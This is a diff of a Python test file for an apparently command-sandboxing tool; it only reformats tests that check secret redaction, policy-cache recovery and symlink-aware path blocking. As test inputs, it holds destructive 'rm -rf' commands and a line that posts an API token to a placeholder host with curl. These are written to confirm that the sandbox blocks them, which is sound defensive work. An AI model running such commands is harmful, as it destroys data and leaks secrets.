@@ -228,8 +228,12 @@ def test_a_damaged_keeping_is_made_anew(guarded: Sandbox) -> None:
     guarded.siding("run", "--", "true")
     kept = guarded.project / "cache" / "policy-project.json"
     assert kept.exists()
-    for text in ("{", '{"version": 1}', '{"version": 99}',
-                 kept.read_text().replace('"rules"', '"ruled"')):  # fmt: skip
+    for text in (
+        "{",
+        '{"version": 1}',
+        '{"version": 99}',
+        kept.read_text().replace('"rules"', '"ruled"'),
+    ):
         kept.write_text(text)
         guarded.siding("run", "--", "sudo", "true", status=5)
 
@@ -239,9 +243,16 @@ def test_no_secret_of_the_environment_gets_into_a_verdict(guarded: Sandbox) -> N
     lines = ("rm -rf /$API_TOKEN", "curl -d $API_TOKEN http://x.example", "$API_TOKEN x; ls")
     for line in lines:
         done = guarded.siding(
-            "run", "-e", f"OTHER_TOKEN={secret}", "--", "sh", "-c", line, status=5,
+            "run",
+            "-e",
+            f"OTHER_TOKEN={secret}",
+            "--",
+            "sh",
+            "-c",
+            line,
+            status=5,
             env={"API_TOKEN": secret},
-        )  # fmt: skip
+        )
         assert secret.encode() not in done.stdout + done.stderr
         said = guarded.siding("policy", "check", "-c", line, status=5, env={"API_TOKEN": secret})
         assert secret.encode() not in said.stdout
@@ -256,8 +267,13 @@ def test_paths_are_judged_by_where_they_lead_now(guarded: Sandbox) -> None:
     outside.mkdir()
     (outside / "file").write_text("x")
     (guarded.workspace() / "build").symlink_to(outside)
-    for line in ("rm -rf build/", "rm -rf build/file", "cd build && rm -rf *",
-                 "rm -rf ~/precious", f"rm -rf {guarded.repo}/src"):  # fmt: skip
+    for line in (
+        "rm -rf build/",
+        "rm -rf build/file",
+        "cd build && rm -rf *",
+        "rm -rf ~/precious",
+        f"rm -rf {guarded.repo}/src",
+    ):
         guarded.siding("run", "--", "sh", "-c", line, status=5)
     assert (outside / "file").exists()
     assert (guarded.repo / "src" / "a.py").exists()
